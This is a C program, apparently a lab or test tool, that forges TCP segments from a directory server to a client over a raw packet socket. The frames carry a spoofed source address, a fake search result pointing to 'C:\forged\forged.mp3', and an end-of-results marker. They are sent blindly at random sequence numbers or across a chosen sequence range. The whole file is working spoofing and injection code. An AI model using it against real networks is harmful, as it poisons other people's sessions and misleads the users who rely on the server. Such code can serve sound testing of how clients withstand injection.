/*
 * Forges answers of a directory server from the wrong side of the router: frames whose source is the server, sent by somebody
 * else. Each carries a search result and the end of the results.
 *
 *   forge IFACE ROUTER_MAC SERVER PORT CLIENT PORT COUNT SEED                 at sequence numbers out of the blue
 *   forge IFACE ROUTER_MAC SERVER PORT CLIENT PORT COUNT SEED SEQ ACK SPREAD  at SEQ + 0..SPREAD-1, acknowledging ACK
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

static const char RESULT[] = "\"C:\\forged\\forged.mp3\" d41d8 1 128 44100 1 forger 1 5";

struct frame {
    struct ether_header ethernet;
    struct iphdr ip;
    struct tcphdr tcp;
    char data[sizeof RESULT - 1 + 8];
} __attribute__((packed));

static void fail(const char *what, const char *why)
{
    fprintf(stderr, "forge: %s: %s\n", what, why);
    exit(70);
}

static uint32_t sum(const void *bytes, size_t length, uint32_t total)
{
    const unsigned char *at = bytes;
    for (; length > 1; at += 2, length -= 2)
        total += (uint32_t)at[0] << 8 | at[1];
    if (length == 1)
        total += (uint32_t)at[0] << 8;
    return total;
}

static uint16_t checksum(uint32_t total)
{
    while (total >> 16)
        total = (total & 0xffff) + (total >> 16);
    return htons((uint16_t)~total);
}

static void put_message(char **at, int type, const char *text, size_t length)
{
    char header[4] = {(char)length, (char)(length >> 8), (char)type, (char)(type >> 8)};
    memcpy(*at, header, sizeof header);
    memcpy(*at + sizeof header, text, length);
    *at += sizeof header + length;
}

static void fill(struct frame *frame, char **argv)
{
    unsigned char *mac = frame->ethernet.ether_dhost;
    char *data = frame->data;

    if (sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5) != 6)
        fail(argv[2], "not a MAC address");
    frame->ethernet.ether_type = htons(ETHERTYPE_IP);
    frame->ip.version = 4;
    frame->ip.ihl = 5;
    frame->ip.ttl = 63;
    frame->ip.protocol = IPPROTO_TCP;
    frame->ip.tot_len = htons(sizeof *frame - sizeof frame->ethernet);
    frame->ip.saddr = inet_addr(argv[3]);
    frame->ip.daddr = inet_addr(argv[5]);
    frame->ip.check = checksum(sum(&frame->ip, sizeof frame->ip, 0));
    frame->tcp.source = htons((uint16_t)atoi(argv[4]));
    frame->tcp.dest = htons((uint16_t)atoi(argv[6]));
    frame->tcp.doff = sizeof frame->tcp / 4;
    frame->tcp.ack = 1;
    frame->tcp.psh = 1;
    frame->tcp.window = htons(502);
    put_message(&data, 201, RESULT, sizeof RESULT - 1);
    put_message(&data, 202, "", 0);
}

static void number(struct frame *frame, uint32_t sequence, uint32_t acknowledgement)
{
    size_t length = sizeof frame->tcp + sizeof frame->data;
    frame->tcp.seq = htonl(sequence);
    frame->tcp.ack_seq = htonl(acknowledgement);
    frame->tcp.check = 0;
    uint32_t total = sum(&frame->ip.saddr, 8, IPPROTO_TCP + (uint32_t)length);
    frame->tcp.check = checksum(sum(&frame->tcp, length, total));
}

static int open_interface(const char *name, struct frame *frame)
{
    int descriptor = socket(AF_PACKET, SOCK_RAW, 0);
    struct sockaddr_ll address = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(name)};
    struct ifreq own;

    if (descriptor < 0 || bind(descriptor, (struct sockaddr *)&address, sizeof address) < 0)
        fail(name, strerror(errno));
    memset(&own, 0, sizeof own);
    strncpy(own.ifr_name, name, IFNAMSIZ - 1);
    if (ioctl(descriptor, SIOCGIFHWADDR, &own) < 0)
        fail(name, strerror(errno));
    memcpy(frame->ethernet.ether_shost, own.ifr_hwaddr.sa_data, ETH_ALEN);
    return descriptor;
}

static uint32_t anything(void)
{
    return (uint32_t)random() << 16 ^ (uint32_t)random();
}

int main(int argc, char **argv)
{
    struct frame frame;

    if (argc != 9 && argc != 12)
        fail("usage", "forge IFACE ROUTER_MAC SERVER PORT CLIENT PORT COUNT SEED [SEQ ACK SPREAD]");
    memset(&frame, 0, sizeof frame);
    fill(&frame, argv);
    int descriptor = open_interface(argv[1], &frame);
    srandom((unsigned)atoi(argv[8]));
    for (long i = 0, count = atol(argv[7]); i < count; i++) {
        if (argc == 9)
            number(&frame, anything(), anything());
        else
            number(&frame, (uint32_t)strtoul(argv[9], NULL, 10) + anything() % (uint32_t)atol(argv[11]),
                   (uint32_t)strtoul(argv[10], NULL, 10));
        if (send(descriptor, &frame, sizeof frame, 0) < 0)
            fail("send", strerror(errno));
        usleep(500);
    }
    printf("%s forged frames\n", argv[7]);
    return 0;
}
